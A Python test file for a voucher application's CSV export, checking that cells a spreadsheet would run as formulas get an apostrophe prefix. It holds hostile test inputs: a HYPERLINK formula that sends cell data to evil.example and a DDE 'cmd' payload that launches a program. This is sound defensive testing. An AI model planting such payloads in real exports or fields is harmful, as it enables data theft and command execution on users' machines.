"""CSV injection: text that a spreadsheet would run as a formula is neutralised in every CSV
the app writes; numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa

from tests import factories
from tests.reports.test_reports import _login
from tests.settlement.conftest import events, settle, voucher_for, world  # noqa: F401
from voucher.accounts.models import Role
from voucher.csv_writing import safe_cell
from voucher.providers.models import Provider

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Avaa")'


@pytest.mark.parametrize(("value", "written"), [
    (EVIL, "'" + EVIL),
    ("+358401234567", "'+358401234567"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ("Hoivapalvelu Aurinko Oy", "Hoivapalvelu Aurinko Oy"),
    (Decimal("-12.50"), "-12.50"),
    (-3, "-3"),
    (None, ""),
])
def test_risky_text_gets_an_apostrophe_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_a_provider_named_like_a_formula_is_text_in_the_report_download(
        client, auth, db, world, settle):  # noqa: F811
    first = voucher_for(db, world, world.aurinko)
    factories.invoice(db, world.aurinko, events(db, first, (2, 150)))
    settle()
    db.execute(sa.update(Provider).where(Provider.id == world.aurinko.id)
               .values(legal_name=EVIL, marketing_name=None))
    db.commit()
    _login(client, auth, db, Role.ADMIN)
    response = client.get("/reports/providers.csv?starts_on=2026-11-01&ends_on=2026-11-30")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells


def test_a_client_named_like_a_formula_is_text_in_the_providers_csv_template(
        client, auth, db, world):  # noqa: F811
    row = voucher_for(db, world, world.aurinko)
    row.client.first_name = "=cmd|' /C calc'!A0"
    factories.user(db, role=Role.PROVIDER, email="p@example.fi", provider_id=world.aurinko.id)
    db.commit()
    auth.login("p@example.fi", factories.PASSWORD)
    text = client.get("/provider/service-events/template.csv").get_data(as_text=True)
    cells = [cell for r in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
             for cell in r]
    assert not any(cell.startswith("=") for cell in cells)
    assert any(cell.startswith("'=cmd") for cell in cells), cells
